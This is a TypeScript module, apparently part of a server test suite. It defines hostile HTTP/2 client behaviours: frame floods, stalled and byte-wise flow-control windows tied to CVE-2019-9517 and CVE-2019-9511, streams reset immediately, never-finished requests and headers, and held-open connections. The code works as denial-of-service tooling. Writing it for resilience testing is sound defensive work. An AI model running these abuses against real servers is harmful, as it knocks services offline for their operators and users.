/**
 * What hostile clients do with HTTP/2: floods, closed windows, streams that never end. Each keeps doing
 * so until it is told to stop or the connection ends. Does I/O.
 *
 * @module
 */
import { HTTP2_FLOODS, type Http2Flood, type Http2FloodName } from "./http2_floods.ts";
import {
  concat,
  encodeFields,
  encodeHead,
  encodeReset,
  encodeWindowUpdate,
  FLAG,
  FRAME,
  pseudoFields,
  repeat,
} from "./http2_frames.ts";
import type { RudeHttp2 } from "./rude_http2.ts";

/** Whom to abuse. */
export interface AbuseTarget {
  /** A host that serves `/` shortly, `/endless` without end, and takes bodies. */
  readonly host: string;
  /** A path that is answered without a server. */
  readonly ownPath: string;
  /** Says when it is enough. */
  readonly signal: AbortSignal;
}

/** One abuse. It ends, without failing, when told so or when the connection is cut. */
export interface Http2Abuse {
  readonly what: string;
  /** Bytes of each answer that may come unasked; default 65,535. */
  readonly windowBytes?: number;
  readonly play: (client: RudeHttp2, target: AbuseTarget) => Promise<void>;
}

/** More than one connection may have open. */
export const STREAMS = 300;

/** Sends the same again and again, as fast as it is taken. */
function flood({ what, begin, again }: Http2Flood, windowBytes?: number): Http2Abuse {
  return {
    what: `${what}, without end`,
    windowBytes,
    play: (client, { host, signal }) =>
      untilCut(client, signal, async (turn) => {
        if (turn === 0 && begin !== undefined) await client.write(begin(client, host));
        await client.write(again(client, host));
        // The writes of a flood would leave the client's own reading no turn.
        await pause(0);
      }),
  };
}

/** Opens many streams and leaves them as they are. */
function hold(path: string, options: { readonly method?: string } = {}): Http2Abuse["play"] {
  const { method = "GET" } = options;
  return async (client, { host, signal }) => {
    for (let count = 0; count < STREAMS && !client.seen.isClosed; count++) {
      await client.open(pseudoFields(host, path, method), method === "GET").catch(() => {});
    }
    await untilCut(client, signal, () => pause(20));
  };
}

const FLOODS = Object.fromEntries(
  Object.entries(HTTP2_FLOODS).map(([name, each]) => [
    name,
    flood(each, name === "swinging_windows" ? 0 : undefined),
  ]),
) as Record<Http2FloodName, Http2Abuse>;

/** Every abuse, by a name that reads well in a test. */
export const HTTP2_ABUSES = {
  ...FLOODS,
  resets_now_and_then: {
    what: "a request every 5 ms, each reset at once",
    play: (client, { host, signal }) =>
      untilCut(client, signal, async () => {
        const stream = client.takeStream();
        await client.write(concat([encodeHead(stream, pseudoFields(host)), encodeReset(stream)]));
        await pause(5);
      }),
  },
  own_answers: {
    what: "requests that need no server, as fast as they are answered",
    play: (client, { host, ownPath, signal }) =>
      untilCut(client, signal, async () => {
        const ask = () => encodeHead(client.takeStream(), pseudoFields(host, ownPath, "HEAD"));
        await client.write(concat(Array.from({ length: 500 }, ask)));
        await pause(0);
      }),
  },
  closed_windows: {
    what: `${STREAMS} large answers of which nothing is taken (CVE-2019-9517)`,
    windowBytes: 0,
    play: hold("/endless"),
  },
  bytewise_windows: {
    what: "a large answer that is taken byte by byte (CVE-2019-9511)",
    windowBytes: 0,
    play: async (client, { host, signal }) => {
      const stream = await client.open(pseudoFields(host, "/endless"));
      const bytes = repeat(encodeWindowUpdate(stream, 1), 50);
      await client.openWindow(0, 0x3fff_ffff);
      await untilCut(client, signal, async () => {
        await client.write(bytes);
        await pause(1);
      });
    },
  },
  unread_answers: {
    what: "100 large answers, windows wide open, and nothing is read from the socket",
    windowBytes: 0x3fff_ffff,
    play: async (client, { host, signal }) => {
      client.stopReading();
      await client.openWindow(0, 0x3fff_ffff);
      for (let count = 0; count < 100; count++) await client.open(pseudoFields(host, "/endless"));
      await untilCut(client, signal, () => pause(20));
    },
  },
  unfinished_requests: {
    what: `${STREAMS} requests whose bodies never come`,
    play: hold("/body", { method: "POST" }),
  },
  unfinished_head: {
    what: "a field section that never ends",
    play: async (client, { host, signal }) => {
      const stream = client.takeStream();
      const fields = encodeFields(pseudoFields(host));
      await client.frame({ type: FRAME.headers, flags: FLAG.endStream, stream }, fields);
      await untilCut(client, signal, () => pause(20));
    },
  },
  silence: {
    what: "nothing but the preface",
    play: (client, { signal }) => untilCut(client, signal, () => pause(20)),
  },
} as const satisfies Record<string, Http2Abuse>;

/** The name of an abuse. */
export type Http2AbuseName = keyof typeof HTTP2_ABUSES;

async function untilCut(
  client: RudeHttp2,
  signal: AbortSignal,
  act: (turn: number) => Promise<void>,
): Promise<void> {
  try {
    for (let turn = 0; !signal.aborted && !client.seen.isClosed; turn++) await act(turn);
  } catch {
    // It has been cut while it wrote, which the test sees by itself.
  }
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
